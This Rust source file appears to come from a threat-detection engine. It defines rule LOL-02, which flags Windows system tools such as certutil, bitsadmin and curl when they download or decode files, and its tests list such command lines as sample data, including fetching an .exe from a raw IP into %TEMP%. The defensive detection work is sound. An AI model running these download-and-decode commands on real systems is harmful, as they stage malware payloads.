//! LOL-02: a system tool downloads or unpacks a file.
//!
//! Sees: certutil, bitsadmin, curl, wget, MpCmdRun, desktopimgdownldr, finger and others with arguments that fetch a file, and
//! certutil that decodes one.
//! Why: what is on every machine needs no malware to bring the next stage.
//! Benign causes: scripts of administrators, installers that use curl, certificate work with certutil on URLs.
//! Sources: MITRE ATT&CK T1105, T1197, T1140; Microsoft's documentation of the tools; LOLBAS for orientation.

use super::lolbin_starts::used;
use super::meta::{Key, Level, Meta, Reads, Threshold};
use super::starts::{self, command};
use super::{Cx, Hit, KeyRows, Signal};
use crate::rules::lolbins::Purpose;
use crate::schema::process as t;

/// See the module.
pub struct Lol02;

const QUALITY_COMMON: f64 = 0.6;

static META: Meta = Meta {
    id: "LOL-02",
    title: "Download by system tool",
    sees: "A system tool with arguments that download a file, or certutil decoding one.",
    why: "What is on every machine needs no malware to bring the next stage.",
    techniques: &["T1105", "T1197", "T1140"],
    stage: "command-and-control",
    family: "lolbins",
    key: Key::Host,
    reads: &[Reads {
        table: &t::TABLE,
        columns: starts::COLUMNS,
    }],
    level: Level::Medium,
    decisive: false,
    thresholds: &[Threshold {
        name: "common_quality",
        value: QUALITY_COMMON,
        unit: "quality",
        source: "[J] curl and wget are made for downloads; only the folder or a raw address makes them odd",
    }],
    benign: &["scripts of administrators", "installers that use curl"],
};

impl Signal for Lol02 {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn scan(&self, cx: &Cx<'_>, rows: &KeyRows<'_>, hits: &mut Vec<Hit>) {
        for row in starts::starts(rows.table(&t::TABLE)) {
            let Some((tool, found, writable)) = used(row, Purpose::Fetch) else {
                continue;
            };
            let line = row.str(t::CMDLINE);
            let raw = crate::rules::content::classes(line).contains(crate::rules::content::Class::RawIpUrl);
            let common = matches!(tool.as_str(), "curl" | "wget") && writable.is_none() && !raw;
            let to = writable.map(|w| format!(" into {w}")).unwrap_or_default();
            let explain = format!("{tool} fetched a file{to}: {}", command(row));
            let mut hit = Hit::at(
                &META,
                row,
                format!("{tool}:{}", found.techniques.first().unwrap_or(&"")),
                explain,
            )
            .techniques(found.techniques)
            .quality(if common {
                cx.number(&META, "common_quality")
            } else {
                1.0
            });
            hit.iocs = starts::iocs(row);
            hits.push(hit);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signals::starts::testing::hits_of;

    fn hits(line: &str) -> Vec<Hit> {
        let image = format!("{}.exe", line.split([' ', '.']).next().unwrap());
        hits_of(&Lol02, &image, "cmd.exe", line)
    }

    #[test]
    fn downloads_are_told_by_technique() {
        for (line, expected) in [
            ("certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe", "T1105"),
            ("bitsadmin /transfer j http://192.0.2.1/a.exe c:\\a.exe", "T1197"),
            ("curl -o %TEMP%\\a.exe http://192.0.2.1/a", "T1105"),
            ("curl.exe https://a.example/x.zip --output x.zip", "T1105"),
            ("certutil -decode a.b64 a.exe", "T1140"),
        ] {
            assert_eq!(
                hits(line).first().map(|h| h.techniques[0].to_string()).as_deref(),
                Some(expected),
                "{line}"
            );
        }
    }

    #[test]
    fn certificates_and_lists_are_ordinary() {
        for line in [
            "certutil -store My",
            "certutil -hashfile a.exe SHA256",
            "bitsadmin /list",
            "curl https://status.example/",
            "curl --version",
        ] {
            assert!(hits(line).is_empty(), "{line}");
        }
    }
}
